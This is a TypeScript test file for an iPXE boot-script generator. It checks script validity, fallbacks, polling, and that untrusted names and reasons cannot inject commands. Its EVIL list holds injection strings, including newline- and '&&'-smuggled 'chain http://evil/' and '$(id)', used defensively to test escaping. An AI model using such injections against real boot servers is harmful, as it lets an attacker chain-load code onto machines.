import assert from 'node:assert/strict'
import { test } from 'node:test'
import { readScript } from '../../test/ipxe-script.ts'
import { ipxeText, ipxeWord } from './ipxe-text.ts'
import { firstScript, liveScript, localScript, refuseScript, waitScript } from './scripts.ts'

const BASE = 'http://10.0.0.2:8001'
const FILE = { sha256: 'ab'.repeat(32), bytes: 1 }
const MANIFEST = {
  ipxe: {},
  live: { kernel: { file: 'live/vmlinuz', ...FILE }, initrd: { file: 'live/initrd', ...FILE } },
  image: null,
  installer: null,
}
const EVIL = [
  'a\nchain http://evil/',
  'a\r\nchain http://evil/',
  'a && chain http://evil/',
  'a || chain http://evil/',
  '${net0/mac}',
  '$',
  '#comment',
  'a ; reboot',
  'a`id`$(id)',
  '\u2028chain x',
  '\\',
]
const names = (script: string) => readScript(script).map(({ name }) => name)

test('every script is one that iPXE can read: known commands, labels that are there, no strange settings', () => {
  const named = { base: BASE, name: 'w1' }
  for (const poll of [false, true]) {
    readScript(waitScript({ ...named, poll, mac: '52:54:00:00:00:01' }))
    readScript(localScript({ ...named, poll }))
    readScript(refuseScript({ ...named, poll, reason: 'because' }))
    readScript(liveScript({ ...named, poll, grant: 'ab', manifest: MANIFEST }))
  }
  readScript(firstScript(BASE))
})

test('the first script is constant, tells all cards, tries three times, and ends at the local disk', () => {
  const script = firstScript(BASE)
  assert.equal(script, firstScript(BASE))
  const commands = readScript(script)
  const asked = commands.find(({ name, words }) => name === 'set' && words[0] === 'ask')?.words[1]
  assert.ok(asked?.startsWith(`${BASE}/boot/script?macs=\${macs}&platform=\${platform}&cpu=`))
  assert.ok(asked?.includes('&uuid=${uuid}&'))
  for (const name of ['serial', 'manufacturer', 'product'])
    assert.ok(asked?.includes(`&${name}=\${${name}:uristring}`), name)
  assert.match(script, /^isset \$\{net\$\{i\}\/mac\} \|\| goto cpu$/m)
  assert.match(script, /^iseq \$\{tries\} 3 && goto unheard \|\|$/m)
  const last = commands.slice(-12).map(({ name }) => name)
  assert.ok(last.includes('chain') && last.at(-1) === 'exit')
  assert.match(script, /^sanboot --no-describe --drive 0x80 \|\|$/m)
})

test('every command that may fail has a way on: nothing stops a script in the middle', () => {
  const may = /^(chain|sanboot|kernel|initrd|boot|iseq|isset|cpuid|sleep 10)\b/
  const scripts = [
    firstScript(BASE),
    waitScript({ base: BASE, name: 'w1', poll: false, mac: '52:54:00:00:00:01' }),
    liveScript({ base: BASE, name: 'w1', poll: false, grant: 'ab', manifest: MANIFEST }),
  ]
  for (const line of scripts.join('\n').split('\n'))
    if (may.test(line)) assert.match(line, /\|\|( goto [a-z-]+)?$/, line)
})

test('a machine that waits asks again every 10 seconds for an hour, then lets its firmware go on', () => {
  const script = localScript({ name: 'w1', poll: false })
  assert.match(script, /^sleep 10 \|\| goto leave$/m)
  assert.match(script, /^chain --autofree \$\{ask\}&poll=1 \|\|$/m)
  assert.match(script, /^iseq \$\{polls\} 360 \|\| goto poll$/m)
  assert.match(script, /\n:leave\nexit 1\n$/)
})

test('UEFI starts the loader on the disk itself: an exit would end in the setup menu', () => {
  const script = localScript({ name: 'w1', poll: false })
  assert.ok(
    script.includes('sanboot --no-describe --drive 0 --filename \\EFI\\BOOT\\BOOTX64.EFI ||\n'),
  )
})

test('text that a machine or a person wrote cannot become a command', () => {
  const plain = refuseScript({ name: 'w1', reason: 'x', poll: false })
  for (const evil of EVIL) {
    const script = refuseScript({ name: 'w1', reason: evil, poll: false })
    assert.deepEqual(names(script), names(plain), JSON.stringify(evil))
    readScript(refuseScript({ name: evil, reason: 'x', poll: true }))
  }
})

test('a word of a command line is one word, or there is no script', () => {
  for (const evil of [...EVIL, '', 'a b'])
    assert.throws(() => ipxeWord(evil), /cannot stand in a boot script/, JSON.stringify(evil))
  assert.equal(ipxeWord(`${BASE}/boot/files/a+b~c_d`), `${BASE}/boot/files/a+b~c_d`)
  const live = { base: BASE, grant: 'ab', poll: false, manifest: MANIFEST }
  assert.throws(() => liveScript({ ...live, name: 'w1 x' }))
  assert.throws(() => liveScript({ ...live, name: 'w1', base: 'http://a b' }))
  assert.throws(() => firstScript('http://a\nchain x'))
})

test('echoed text keeps what people read', () => {
  const text = "It has 512 MB of memory; 900 MB are needed. (Dell's board) 50 = half?"
  assert.equal(ipxeText(text), text)
})
